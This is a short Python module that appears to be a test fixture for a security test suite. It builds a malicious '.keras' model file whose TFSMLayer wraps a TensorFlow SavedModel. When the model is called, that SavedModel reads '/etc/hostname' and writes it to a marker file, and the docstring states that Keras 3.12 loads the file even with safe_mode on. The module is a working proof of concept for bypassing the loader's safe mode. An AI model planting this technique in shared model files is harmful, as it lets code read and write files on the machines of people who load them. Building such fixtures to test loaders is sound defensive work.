"""Model files made to attack the loader: a .keras file whose layer runs a TensorFlow graph that writes a file."""

from __future__ import annotations

from pathlib import Path

import keras
import tensorflow as tf


def tfsm_writer(folder: Path, marker: Path, width: int = 2) -> Path:
    """folder/evil.keras: a Functional model around keras.layers.TFSMLayer, whose SavedModel (folder/payload) copies
    /etc/hostname (or writes a text when there is none) to `marker` each time the model is called. Keras 3.12 loads it
    with safe_mode=True (keras-team/keras#22035), and calling it writes the file."""
    secret = "/etc/hostname" if Path("/etc/hostname").exists() else None

    class Payload(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, width], tf.float32)])
        def serve(self, x):
            tf.io.write_file(str(marker), tf.io.read_file(secret) if secret else tf.constant("code ran"))
            return {"out": x * 2.0}

    payload = Payload()
    tf.saved_model.save(payload, str(folder / "payload"), signatures={"serving_default": payload.serve})
    inputs = keras.Input((width,))
    outputs = keras.layers.TFSMLayer(str(folder / "payload"), call_endpoint="serving_default")(inputs)["out"]
    keras.Model(inputs, outputs).save(folder / "evil.keras")
    return folder / "evil.keras"
